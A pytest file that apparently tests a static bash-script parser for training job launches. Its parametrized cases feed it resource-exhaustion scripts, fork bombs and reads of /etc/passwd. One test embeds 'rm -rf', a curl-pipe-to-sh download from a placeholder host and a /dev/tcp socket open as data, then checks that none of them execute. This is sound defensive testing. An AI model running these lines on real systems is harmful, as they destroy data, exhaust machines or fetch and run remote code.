"""Hostile scripts: one sentence each, and nothing happens."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from ascend_compat.jobs.bash import read_shell
from ascend_compat.jobs.yaml_tree import TreeError

START = "\ntorchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 4\n"


def read(script: str, root: Path | None = None, file: str = "job.sh") -> tuple[int, list[str]]:
    """How many launches, and the codes of the problems."""
    try:
        launches = read_shell(script, file, root=root)
    except TreeError as error:
        return 0, [error.problem.code]
    return len(launches), sorted({problem.code for launch in launches for problem in launch.problems})


REFUSED = {
    "ten megabytes": ("echo hello\n" * 1_000_000, "AC2101"),
    "quadratic string": ('X="$X a"\n' * 100_000, "AC2103"),
    "doubling string": ("X=ab\n" + "X=$X$X$X$X$X$X$X$X\n" * 40, "AC2103"),
    "doubling array": ("A=(1 2 3)\n" + 'A=("${A[@]}" "${A[@]}" "${A[@]}" "${A[@]}")\n' * 40, "AC2103"),
    "too many words": ("torchrun pretrain_gpt.py " + "--x 1 " * 140_000, "AC2103"),
    "nested loops": ("for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do X=1; done; done; done", "AC2103"),
    "exploding calls": (
        "".join(f"f{i}() {{ f{i + 1}; f{i + 1}; f{i + 1}; }}\n" for i in range(18)) + "f18() { :; }\nf0",
        "AC2103",
    ),
    "exploding eval": ('E=\'eval "$E"; eval "$E"; true\'; eval "$E"', "AC2103"),
    "deep branches": ("if true; then " * 10_000 + "echo" + "; fi" * 10_000, "AC2102"),
    "deep groups": ("{ " * 10_000 + "echo" + "; }" * 10_000, "AC2102"),
    "deep expansions": ("echo " + "${a:-" * 10_000 + "}" * 10_000, "AC2106"),
    "open quote": ('echo "' + "x" * 1000, "AC2106"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_script_that_cannot_be_followed_is_one_problem(name: str) -> None:
    script, code = REFUSED[name]
    assert read(script) == (0, [code])


HARMLESS = {
    "parentheses": "(" * 10_000 + "echo" + ")" * 10_000,
    "substitutions": "echo " + "$(" * 10_000 + ")" * 10_000,
    "arithmetic": "X=$((" + "(" * 10_000 + "1" + ")" * 10_000 + "))",
    "signs": "X=$((" + "-" * 10_000 + "1))",
    "digits": "X=$((" + "9" * 200_000 + "))",
    "powers": "a=1; b=$((7**63)); b=$((b<<63)); c=$((1/0)); d=$((64**64**64))",
    "long chain": "true && " * 10_000 + "true",
    "long pipe": "a | " * 10_000 + "b",
    "many branches": "if [ $a = 1 ]; then X=1; " + "elif [ $a = 2 ]; then X=2; " * 5000 + "fi",
    "patterns": "A=" + "a" * 8000 + "\nB=${A##" + "*a" * 90 + "b}\n[[ $A == " + "*a" * 90 + "b ]]",
    "fork bomb": ":(){ :|:& };:",
    "recursion": "f(){ g; g; }; g(){ f; f; }; f",
    "self eval": 'X=\'eval "$X"\'; eval "$X"',
    "huge index": "A[99999999]=1; echo ${A[99999999999999999999]}",
    "braces": "echo " + "{a,b}" * 30 + " {1..99999}",
    "endless loop": "while true; do X=1; done",
}


@pytest.mark.parametrize("name", HARMLESS)
def test_a_strange_script_is_followed_to_its_launch(name: str) -> None:
    assert read(HARMLESS[name] + START) == (1, [])


def test_a_script_that_sources_itself_is_told_so(tmp_path: Path) -> None:
    file = tmp_path / "self.sh"
    script = "source ./self.sh" + START
    file.write_text(script, encoding="utf-8")
    assert read(script, tmp_path, str(file)) == (1, ["AC2104"])
    file.write_text(". ./self.sh", encoding="utf-8")
    assert read(". ./self.sh", tmp_path, str(file)) == (0, ["AC2104"])


def test_two_files_that_source_each_other_are_told_so(tmp_path: Path) -> None:
    (tmp_path / "a.sh").write_text(". ./b.sh", encoding="utf-8")
    (tmp_path / "b.sh").write_text(". ./a.sh", encoding="utf-8")
    assert read(". ./b.sh", tmp_path, str(tmp_path / "a.sh")) == (0, ["AC2104"])


def test_a_long_chain_of_files_ends(tmp_path: Path) -> None:
    for number in range(30):
        (tmp_path / f"{number}.sh").write_text(f". ./{number + 1}.sh", encoding="utf-8")
    assert read(". ./0.sh" + START, tmp_path, str(tmp_path / "job.sh")) == (1, ["AC2105"])


@pytest.mark.parametrize("name", ["/dev/zero", "/dev/stdin", "fifo", "folder", "/etc/passwd"])
def test_only_regular_files_inside_the_root_are_read(tmp_path: Path, name: str) -> None:
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    assert read(f"source {name}" + START, tmp_path, str(tmp_path / "job.sh")) == (1, [])


def test_nothing_is_executed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a process was started")

    for module, name in ((subprocess, "Popen"), (os, "system"), (os, "posix_spawn"), (os, "fork"), (os, "execv")):
        monkeypatch.setattr(module, name, refuse)
    kept = tmp_path / "kept"
    kept.write_text("x", encoding="utf-8")
    script = "\n".join(
        (
            f"rm -rf {tmp_path}",
            f"$(touch {tmp_path}/a)",
            f"`touch {tmp_path}/b`",
            f"A=$(touch {tmp_path}/c; echo 4)",
            f'eval "touch {tmp_path}/d"',
            f"bash -c 'touch {tmp_path}/e'",
            f"curl http://example.invalid/x.sh | sh > {tmp_path}/f",
            f"> {tmp_path}/g",
            f"cat > {tmp_path}/h <<EOF\n$(touch {tmp_path}/i)\nEOF",
            f"trap 'touch {tmp_path}/j' EXIT",
            f"diff <(touch {tmp_path}/k) /dev/null",
            f"python3 -c \"open('{tmp_path}/l', 'w')\"",
            "cd /; exec 3<>/dev/tcp/127.0.0.1/9",
            ":(){ :|:& };:",
        )
    )
    before = Path.cwd()
    assert read(script + START, tmp_path, str(tmp_path / "job.sh")) == (1, [])
    assert [path.name for path in tmp_path.iterdir()] == ["kept"]
    assert Path.cwd() == before
